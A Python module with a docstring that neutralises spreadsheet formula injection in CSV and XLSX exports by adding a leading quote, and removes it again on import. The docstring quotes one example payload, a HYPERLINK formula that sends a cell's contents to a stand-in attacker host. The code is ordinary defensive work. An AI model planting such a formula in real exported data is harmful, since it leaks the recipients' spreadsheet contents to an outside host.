"""Spreadsheet formulas in exported cells (CSV/formula injection), neutralised the OWASP way.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a
formula, so a guide title such as `=HYPERLINK("http://evil.example/?x="&A1,…)` would become a live link in
the XLSX or CSV a citizen downloads. The tabular exports therefore write such a text with a single quote in
front (`'=HYPERLINK(…)`), and XLSX writes it as a string cell, never a formula.

The rule is reversible, so an export read back by the import is still exactly what was exported:

- `neutralise`: a text that starts with one of those characters, or with a quote itself, gets one quote in
  front (`'=1+1`, `'+86 571…`, `''引号`);
- `restore`: a cell of a tabular file that starts with a quote loses that one quote.

The second half is also Excel's own rule: a quote typed before a value only says "this is text". JSON carries
texts as they are: it is never run as a formula.
"""

QUOTE = "'"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The cell to write for `value` in a spreadsheet: texts that could run as a formula get a leading quote."""
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, QUOTE)):
        return QUOTE + value
    return value


def restore(value):
    """The value a tabular cell stands for: one leading quote, the text marker, removed."""
    if isinstance(value, str) and value.startswith(QUOTE):
        return value[1:]
    return value
